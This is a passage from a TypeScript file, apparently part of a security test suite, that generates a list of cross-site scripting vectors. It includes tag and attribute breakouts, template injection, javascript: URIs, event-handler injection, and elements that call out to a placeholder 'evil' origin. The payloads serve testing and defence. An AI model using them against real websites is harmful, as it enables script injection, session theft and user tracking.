    'image-tref': (id) => `${SVG_OPEN}<tref xlink:href="${XSS_EVIL_ORIGIN}/${id}.svg#t"/></svg>`,
    'image-cursor-element': (id) => `${SVG_OPEN}<cursor xlink:href="${XSS_EVIL_ORIGIN}/${id}.png"/></svg>`,
    'image-font-face-uri': (id) =>
      `${SVG_OPEN}<font-face-uri xlink:href="${XSS_EVIL_ORIGIN}/${id}.svg#f"/></svg>`,
    'image-audio-autoplay': (id) => `<svg><audio src="${XSS_EVIL_ORIGIN}/${id}.mp3" autoplay></audio></svg>`,
    'image-video-poster': (id) => `<video poster="${XSS_EVIL_ORIGIN}/${id}.png"></video>`,
    'image-picture-srcset': (id) =>
      `<picture><source srcset="${XSS_EVIL_ORIGIN}/${id}.png"><img alt=""></picture>`,
    'image-a-ping': (id) => `${SVG_OPEN}<a href="#x" ping="${XSS_EVIL_ORIGIN}/${id}">${SHAPE}</a></svg>`,
    'image-hidden-remote': (id) =>
      `${SVG_OPEN}<image href="${XSS_EVIL_ORIGIN}/${id}.png" style="display:none" width="9" height="9"/></svg>`,
    'image-base-href': (id) => `<base href="${XSS_EVIL_ORIGIN}/${id}/"><svg/>`,
    'image-input-image': (id) => `<input type="image" src="${XSS_EVIL_ORIGIN}/${id}.png">`,
  },
  'html-text': {
    'text-attribute-breakout': (id) => `"><img src=x onerror="${js(id)}">`,
    'text-single-quote-breakout': (id) => `'><script>${js(id)}</script>`,
    'text-template-injection': (id) => `{{constructor.constructor("${js(id)}")()}}`,
    'text-template-literal': (id) => `\${${js(id)}}`,
    'text-javascript-uri': (id) => `javascript:${js(id)}`,
    'text-textarea-breakout': (id) => `</textarea><script>${js(id)}</script>`,
    'text-title-breakout': (id) => `</title><script>${js(id)}</script>`,
    'text-json-breakout': (id) => `</script><script>${js(id)}</script>`,
    'text-html-comment': (id) => `<!--<img src="--><img src=x onerror=${js(id)}//">`,
    'text-unicode-escapes': (id) => `\u003cimg src=x onerror=${js(id)}\u003e`,
    'text-bidi-override': (id) => `\u202e<img src=x onerror=${js(id)}>\u202c`,
    'text-svg-as-text': (id) => `<svg onload=${js(id)}>`,
    'text-markdown-link': (id) => `[Activate](javascript:${js(id)})`,
    'text-iframe': (id) => `<iframe src="javascript:${js(id)}"></iframe>`,
  },
};

const fromHandlers = (): XssVector[] =>
  XSS_EVENT_HANDLER_NAMES.map((name) => {
    const id = `handler-${name.toLowerCase()}`;
    return {
      id,
      family: 'event-handler' as const,
      // On the root, on a shape and on an animation element: whichever the browser would fire it on.
      payload: `${SVG_OPEN.replace('<svg ', `<svg ${name}="${js(id)}" `)}<rect width="24" height="24" ${name}="${js(id)}"/><animate attributeName="x" to="1" dur="1ms" ${name}="${js(id)}"/></svg>`,
    };
  });

const fromTemplates = (): XssVector[] =>
  Object.entries(HAND_WRITTEN).flatMap(([family, templates]) =>
    Object.entries(templates).map(([id, template]) => ({
      id,
      family: family as XssFamily,
      payload: template(id),
    })),
  );

/** Every vector: one per event-handler name, then the hand-written ones of each family. */
export const XSS_VECTORS: readonly XssVector[] = [...fromHandlers(), ...fromTemplates()];
